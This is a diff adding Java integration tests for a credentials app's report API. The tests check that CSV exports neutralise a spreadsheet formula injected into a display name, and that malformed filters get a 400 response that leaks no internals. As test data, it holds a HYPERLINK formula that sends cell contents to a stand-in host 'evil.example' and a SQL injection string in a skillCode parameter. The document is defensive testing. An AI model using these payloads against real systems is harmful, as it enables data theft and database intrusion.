@@ -14,6 +14,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestInstance;
 import org.microcredentials.credential.CredentialRegister;
 import org.microcredentials.credential.CredentialRevocations;
+import org.microcredentials.framework.Engineer;
 import org.microcredentials.framework.OrganisationAdministration;
 import org.microcredentials.testing.ApplicationTest;
 import org.microcredentials.testing.MutableClock;
@@ -280,6 +281,90 @@ class ReportsRestIT {
     assertThat(badDate.getBody()).containsEntry("rule", "report-period");
   }
 
+  /**
+   * A display name an administrator typed (or pasted from HR) that a spreadsheet would run: carol's name
+   * becomes a HYPERLINK formula. The CSV gives it as text (a single quote first); the JSON keeps it as it is;
+   * the figures stay numbers.
+   */
+  @Test
+  void aNameThatIsAFormulaReachesTheCsvAsText() {
+    String formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";
+    Engineer carol = engineer("carol");
+    try {
+      ResponseEntity<String> renamed = rest.withBasicAuth("demo", "demo").exchange("/api/engineers/carol", HttpMethod.PUT,
+          new HttpEntity<>(update(carol, formula)), String.class);
+      assertThat(renamed.getStatusCode()).isEqualTo(HttpStatus.OK);
+
+      for (String path : List.of("/api/reports/endorsements-by-endorser?format=csv", "/api/reports/sla-breaches?format=csv")) {
+        String csv = get("erin", path, "*/*", String.class).getBody();
+        assertThat(csv).as(path).contains("carol,\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Open\"\")\",");
+        assertThat(csv.split("\r\n")).as(path).noneMatch(line -> line.startsWith("=") || line.contains(",=")
+            || line.contains(",\"="));
+      }
+      assertThat(get("erin", "/api/reports/endorsements-by-endorser", "text/csv", String.class).getBody())
+          .contains("carol,\"'=HYPERLINK(").contains("\",2,2,0,2\r\n");
+      assertThat(rows("endorsements-by-endorser", "")).first().satisfies(row -> assertThat(row.get("name")).isEqualTo(formula));
+    } finally {
+      administration.save("carol", update(carol, carol.displayName()));
+    }
+  }
+
+  /**
+   * Dates Java parses but no database holds ({@code +999999999-12-31}, {@code -999999999-01-01}) and other
+   * pathological filters: refused with 400 naming the rule, never a 500; no answer shows SQL, a class name or
+   * a stack trace.
+   */
+  @Test
+  void pathologicalFiltersAreRefusedNamingTheRuleWithoutInternals() {
+    Map<String, String> refusals = new java.util.LinkedHashMap<>();
+    refusals.put("?from=%2B999999999-12-31", "report-period");
+    refusals.put("?to=%2B999999999-12-31", "report-period");
+    refusals.put("?from=-999999999-01-01", "report-period");
+    refusals.put("?from=0000-01-01&to=2026-01-01", "report-period");
+    refusals.put("?from=1899-12-31", "report-period");
+    refusals.put("?to=10000-01-01", "report-period");
+    refusals.put("?from=%2B999999999", "report-period");
+    refusals.put("?from=2026-02-30", "report-period");
+    refusals.put("?from=2026-12-01&to=2026-11-01", "report-period");
+    refusals.put("?skillCode=iLAN'%20or%201=1--", "report-skill");
+    refusals.put("?team=" + "x".repeat(65), "report-team");
+    for (String report : List.of("submissions", "sla-breaches", "credentials-by-skill-level")) {
+      for (Map.Entry<String, String> refusal : refusals.entrySet()) {
+        for (String accept : List.of("application/json", "text/csv")) {
+          // Sent as encoded as it is written here (%2B is the attacker's '+'): not encoded again by a URI template.
+          ResponseEntity<String> answer = get("erin", java.net.URI.create(rest.getRootUri() + "/api/reports/" + report
+              + refusal.getKey()), accept);
+          assertThat(answer.getStatusCode()).as(report + refusal.getKey() + " " + accept + ": " + answer.getBody())
+              .isEqualTo(HttpStatus.BAD_REQUEST);
+          assertThat(answer.getBody()).contains("\"rule\":\"" + refusal.getValue() + "\"");
+          assertNoInternals(answer.getBody());
+        }
+      }
+    }
+    assertThat(rows("submissions", "?from=1900-01-01&to=9999-12-31")).isEqualTo(rows("submissions", ""));
+    // Spring Boot's own error page, e.g. a media type no report is given in: no exception named either.
+    ResponseEntity<String> notAcceptable = get("erin", "/api/reports/submissions", "application/xml", String.class);
+    assertThat(notAcceptable.getStatusCode().is4xxClientError()).isTrue();
+    assertNoInternals(notAcceptable.getBody());
+  }
+
+  static void assertNoInternals(String body) {
+    assertThat(body == null ? "" : body).doesNotContainIgnoringCase("select ").doesNotContainIgnoringCase("insert into")
+        .doesNotContain("Exception").doesNotContain("org.").doesNotContain("java.").doesNotContain("\tat ")
+        .doesNotContain("\"trace\"").doesNotContain("\"exception\"");
+  }
+
+  private Engineer engineer(String userId) {
+    return rest.withBasicAuth("demo", "demo").exchange("/api/engineers", HttpMethod.GET, null,
+            new org.springframework.core.ParameterizedTypeReference<List<Engineer>>() { }).getBody().stream()
+        .filter(engineer -> engineer.userId().equals(userId)).findFirst().orElseThrow();
+  }
+
+  private static OrganisationAdministration.EngineerUpdate update(Engineer engineer, String displayName) {
+    return new OrganisationAdministration.EngineerUpdate(displayName, engineer.email(), engineer.seniorityLevel(),
+        engineer.roleTitle(), engineer.lineManagerId());
+  }
+
   @SuppressWarnings("unchecked")
   private List<Map<String, Object>> rows(String report, String query) {
     ResponseEntity<Map<String, Object>> answer = rest.withBasicAuth("erin", "erin")
@@ -291,6 +376,12 @@ class ReportsRestIT {
   private String skillName(String code) {
     return jdbc.sql("select name from skill where code = ? and framework_version = (select max(version) from skill_framework)")
         .param(code).query(String.class).single();
+  }
+
+  private ResponseEntity<String> get(String user, java.net.URI uri, String accept) {
+    HttpHeaders headers = new HttpHeaders();
+    headers.set(HttpHeaders.ACCEPT, accept);
+    return rest.withBasicAuth(user, user).exchange(uri, HttpMethod.GET, new HttpEntity<>(headers), String.class);
   }
 
   private <T> ResponseEntity<T> get(String user, String path, String accept, Class<T> type) {
